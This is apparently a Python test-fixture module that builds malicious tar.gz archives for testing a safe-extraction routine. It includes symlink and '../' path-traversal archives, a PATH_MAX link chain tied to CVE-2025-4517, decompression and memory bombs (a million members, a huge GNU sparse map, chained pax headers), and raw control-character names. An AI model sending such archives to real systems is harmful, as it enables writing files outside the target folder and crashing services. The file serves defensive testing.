"""Archives built to escape, explode or mislead whoever extracts them.

Shared by the archive module's unit tests and by the tests that send them
through a real receive path (an AWS instance's pack step, a compromised Dask
worker's reply).
"""

from __future__ import annotations

import functools
import gzip
import io
import tarfile
import tempfile
from pathlib import Path


def tgz(*members: tuple[tarfile.TarInfo, bytes | None], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=fmt) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def regular(name: str, data: bytes = b"1,2\n") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    return info, None


def link_chain(target: str) -> bytes:
    """``s -> .`` then links that look inside one by one but climb out in name order."""
    return tgz(special("s", tarfile.SYMTYPE, "."), regular("fold_0/e2.txt"),
               special("fold_0/e3.txt", tarfile.SYMTYPE, f"../s/s/s/s/../../{target}"))


def dot_dot(name: str = "escape.txt") -> bytes:
    """A member named to land next to (not in) the destination."""
    return tgz(regular("fold_0/y_pred.npz"), regular(f"../{name}", b"escaped\n"))


def path_max_chain(name: str = "escape.txt") -> bytes:
    """The CVE-2025-4517 shape: links whose resolution passes PATH_MAX, then a file through them."""
    members = [special("a" * 200, tarfile.SYMTYPE, "b" * 200),
               special(f"{'a' * 200}/{'c' * 50}", tarfile.SYMTYPE, "../" * 30 + "tmp"),
               regular(f"{'a' * 200}/{'c' * 50}/{name}", b"escaped\n")]
    return tgz(*members)


def million_empty_files(path: Path, count: int = 1_000_000) -> Path:
    """A ``.tar.gz`` of ``count`` empty files (a few MB), written without holding it in memory."""
    header = bytearray(tarfile.TarInfo("0" * 7).tobuf(tarfile.GNU_FORMAT))
    blank = bytearray(header)
    blank[148:156] = b" " * 8
    base = sum(blank) - 7 * ord("0")
    with gzip.open(path, "wb", compresslevel=1) as out:
        batch = bytearray()
        for index in range(count):
            name = b"%07d" % index
            header[0:7] = name
            header[148:156] = b"%06o\0 " % (base + sum(name))
            batch += header
            if len(batch) >= 1 << 22:
                out.write(batch)
                batch.clear()
        out.write(bytes(batch) + b"\0" * (2 * tarfile.BLOCKSIZE))
    return path


@functools.cache
def _million_bytes() -> bytes:
    with tempfile.TemporaryDirectory() as scratch:
        return million_empty_files(Path(scratch, "million.tar.gz")).read_bytes()


def million_tiny_files(name: str = "escape.txt") -> bytes:
    """A million empty members (about 9 MB compressed), built once per test process."""
    del name  # nothing in it is named to escape: its weight is the attack
    return _million_bytes()


# -- archives tarfile itself chokes on: raw headers, built byte by byte -----------------------


def header(name: bytes, size: int = 0, flag: bytes = b"0", linkname: bytes = b"",
           gnu: bool = False) -> bytes:
    """One 512-byte tar header (ustar, or GNU's magic with ``gnu``), its checksum right."""
    block = bytearray(512)
    block[0:len(name[:100])] = name[:100]
    block[100:108] = b"0000644\0"
    block[108:116] = block[116:124] = b"0000000\0"
    block[124:136] = b"%011o\0" % size
    block[136:148] = b"00000000000\0"
    block[156:157] = flag
    block[157:157 + len(linkname[:100])] = linkname[:100]
    block[257:265] = b"ustar  \0" if gnu else b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def pax_record(key: str, value: str) -> bytes:
    body = f" {key}={value}\n".encode()
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length = len(str(length)) + len(body)
    return str(length).encode() + body


def pax(records: dict[str, str]) -> bytes:
    data = b"".join(pax_record(key, value) for key, value in records.items())
    return header(b"PaxHeader/x", len(data), b"x") + padded(data)


def gz(*parts: bytes) -> bytes:
    return gzip.compress(b"".join(parts) + b"\0" * 1024, compresslevel=9)


def sparse_1_0(numbers: int = 12_000_000) -> bytes:
    """GNU sparse 1.0 (pax): a map of ``numbers`` entries in the data, which tarfile reads
    into a list before anyone sees the member (78 KB of gzip, gigabytes in memory)."""
    sparse_map = b"%d\n" % (numbers // 2) + b"0\n" * numbers
    return gz(pax({"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                   "GNU.sparse.name": "fold_0/y_pred.npz", "GNU.sparse.realsize": "1"}),
              header(b"fold_0/GNUSparseFile.0/y_pred.npz", len(sparse_map)), padded(sparse_map))


def sparse_0_1() -> bytes:
    """GNU sparse 0.1 (pax): the map in one ``GNU.sparse.map`` record."""
    return gz(pax({"GNU.sparse.numblocks": "2", "GNU.sparse.size": "10",
                   "GNU.sparse.map": "0,5,5,5"}), header(b"sparse", 10), padded(b"x" * 10))


def sparse_0_0() -> bytes:
    """GNU sparse 0.0 (pax): offset/numbytes records repeated."""
    records = {"GNU.sparse.size": "10", "GNU.sparse.numblocks": "1",
               "GNU.sparse.offset": "0", "GNU.sparse.numbytes": "10"}
    return gz(pax(records), header(b"sparse", 10), padded(b"x" * 10))


def sparse_old_gnu() -> bytes:
    """The old GNU format: a member of type ``S``."""
    return gz(header(b"sparse", 10, b"S", gnu=True), padded(b"x" * 10))


def chained_pax(count: int = 600) -> bytes:
    """``count`` pax headers in a row before one member."""
    return gz(*[pax({"comment": f"c{i}"}) for i in range(count)], header(b"a", 1), padded(b"1"))


def raw_named(name: bytes) -> bytes:
    """One folder and one file under it named with raw bytes (control characters, RLO,
    bytes that are not UTF-8)."""
    return gz(header(name + b"/", 0, b"5"), header(name + b"/f", 1), padded(b"1"))


def many_folders(count: int) -> bytes:
    """``count`` empty sibling folders (one descriptor each, for a careless writer)."""
    return gz(*[header(b"d%05d/" % i, 0, b"5") for i in range(count)])
